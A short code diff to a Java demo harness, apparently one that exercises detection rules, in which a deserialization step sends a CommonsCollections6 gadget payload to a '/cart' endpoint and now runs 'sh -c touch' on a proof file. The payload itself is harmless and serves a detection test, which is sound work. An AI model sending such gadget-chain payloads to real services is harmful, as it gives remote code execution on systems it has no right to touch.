@@ -80,11 +80,13 @@ public final class Steps {
 
     private static Step.Outcome deserialization(Http http, String nonce) throws Exception {
         Path proof = Path.of("/tmp/peregrine-demo-deser-" + nonce);
-        byte[] payload = GadgetPayload.runtimeExec("touch", proof.toString());
+        // A shell, as real payloads use one: with the probe, the kernel's exec of sh joins the Java call whose stack
+        // holds the gadget chain, which the correlated rules name.
+        byte[] payload = GadgetPayload.runtimeExec("sh", "-c", "touch " + proof);
         HttpResponse<String> r = http.post("/cart", payload);
         boolean done = awaitFile(proof);
         Files.deleteIfExists(proof);
-        return new Step.Outcome("POST /cart (" + payload.length + " bytes: CommonsCollections6 -> touch " + proof + ")",
+        return new Step.Outcome("POST /cart (" + payload.length + " bytes: CommonsCollections6 -> sh -c 'touch " + proof + "')",
                 r.statusCode(), (done ? "proof file created by the payload; " : "NO proof file; ") + firstLine(r.body()));
     }
 
